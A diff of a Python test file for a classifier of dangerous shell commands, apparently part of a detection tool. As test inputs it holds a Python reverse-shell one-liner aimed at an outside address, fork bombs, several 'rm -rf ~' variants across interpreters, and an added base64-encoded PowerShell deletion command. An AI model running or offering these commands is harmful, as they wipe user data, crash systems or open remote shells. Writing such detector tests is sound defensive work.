@@ -1,7 +1,6 @@
 from __future__ import annotations
 
 import pytest
-
 from tests.detection.programs.understood import (
     classes_of,
     command_of,
@@ -39,7 +38,8 @@ from tests.detection.programs.understood import (
         ("perl -e 'fork while fork'", {"interpreter", "inline_code", "fork_bomb"}),
         ("ruby -e 'loop { fork }'", {"interpreter", "inline_code", "fork_bomb"}),
         (
-            "python3 -c 'import socket,os;s=socket.socket();s.connect((\"203.0.113.7\",4444));os.dup2(s.fileno(),0)'",
+            'python3 -c \'import socket,os;s=socket.socket();s.connect(("203.0.113.7",4444));'
+            "os.dup2(s.fileno(),0)'",
             {"interpreter", "inline_code", "socket_code", "shell_to_network"},
         ),
         (
@@ -79,6 +79,8 @@ def test_asking_for_the_version_runs_nothing(command):
         "php -r 'shell_exec(\"rm -rf ~\");'",
         'node -e \'require("child_process").execSync("rm -rf ~")\'',
         "python3 - <<'E'\nimport os\nos.system('rm -rf ~')\nE",
+        "powershell -Command 'Remove-Item -Recurse ~'",
+        "powershell -enc UgBlAG0AbwB2AGUALQBJAHQAZQBtACAALQBSAGUAYwB1AHIAcwBlACAAfgA=",
         "osascript -e 'do shell script \"rm -rf ~\"'",
     ],
 )
